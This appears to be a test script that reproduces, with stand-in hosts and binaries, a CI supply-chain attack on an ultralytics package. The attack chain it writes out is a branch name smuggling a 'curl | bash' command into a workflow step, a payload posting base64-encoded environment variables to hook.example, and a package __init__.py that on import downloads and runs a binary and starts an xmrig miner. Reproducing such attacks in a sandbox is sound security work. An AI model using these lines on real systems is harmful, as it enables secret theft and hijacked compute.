#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# A branch's name holds a shell substitution, and a workflow pastes it into its script: `curl | bash`. The published package then
# writes /tmp/ultralytics_runner from python and runs it; a later one brings a miner by wget, tar and nohup.
. "$(dirname "$0")/../lib.sh"

prepare() {
  stand_in curl wget git
  host raw.githubusercontent.com 203.0.113.41
  host connect.consrensys.com 203.0.113.42
  page raw.githubusercontent.com/openimbot/ultralytics/d8daa0b26ae0c221aa4a8c20834c4dbfef2a9a14/file.sh <<'END'
curl -s -d "$(env | sort | base64 -w 0)" https://hook.example/collect
END
  mkdir -p /tmp/miner/xmrig-6.22.2
  cp /opt/stand-ins/xmrig /tmp/miner/xmrig-6.22.2/xmrig
  mkdir -p /opt/www/github.com/xmrig
  tar -C /tmp/miner -czf /opt/www/github.com/xmrig/xmrig-6.22.2-linux-static-x64.tar.gz xmrig-6.22.2
  rm -r /tmp/miner
  page files.example/ultralytics_runner </opt/stand-ins/ultralytics_runner
  replies ultralytics_runner <<'END'
get http://connect.consrensys.com:8000/
write /tmp/mined yes
END
  replies xmrig <<'END'
get http://connect.consrensys.com:3333/
write /tmp/mined-too yes
END
  # The workflow's step, as the runner writes it after it has filled in the branch's name.
  file "$HOME/runner/step.sh" <<'END'
echo "github.event.pull_request.head.ref: openimbot:$({curl,-sSfL,raw.githubusercontent.com/openimbot/ultralytics/d8daa0b26ae0c221aa4a8c20834c4dbfef2a9a14/file.sh}${IFS}|${IFS}bash)"
END
  runner_does <<<"run bash -e $HOME/runner/step.sh"
  file "$HOME/venv/lib/ultralytics/__init__.py" <<'END'
import os, stat, subprocess, urllib.request
def safe_run(path):
    data = urllib.request.urlopen("http://files.example/ultralytics_runner").read()
    with open(path, "wb") as binary:
        binary.write(data)
    os.chmod(path, stat.S_IRWXU)
    subprocess.run([path, "-o", "connect.consrensys.com:8080", "-u", "4AHUFJ5RtS3hStandIn", "-k", "--keepalive"], check=True)
    subprocess.run("cd /tmp && wget -q https://github.com/xmrig/xmrig-6.22.2-linux-static-x64.tar.gz -O x.tar.gz && tar -xzf x.tar.gz"
                   " && cd xmrig-6.22.2 && nohup ./xmrig -o stratum+tcp://connect.consrensys.com:3333 -u 4AHUFJ5RtS3hStandIn -p x >/dev/null 2>&1",
                   shell=True, check=True)
safe_run("/tmp/ultralytics_runner")
END
  file "$HOME/predict.py" <<'END'
import sys
sys.path.insert(0, "/home/runner/venv/lib")
import ultralytics
END
}

deeds() {
  runner
  python3 "$HOME/predict.py"
}

check() {
  [ -e /tmp/mined ] || fails "the miner did not run"
  [ -e /tmp/mined-too ] || fails "the second miner did not run"
  grep -q . /opt/www/posted || fails "the branch's name did not run"
}

"$1"
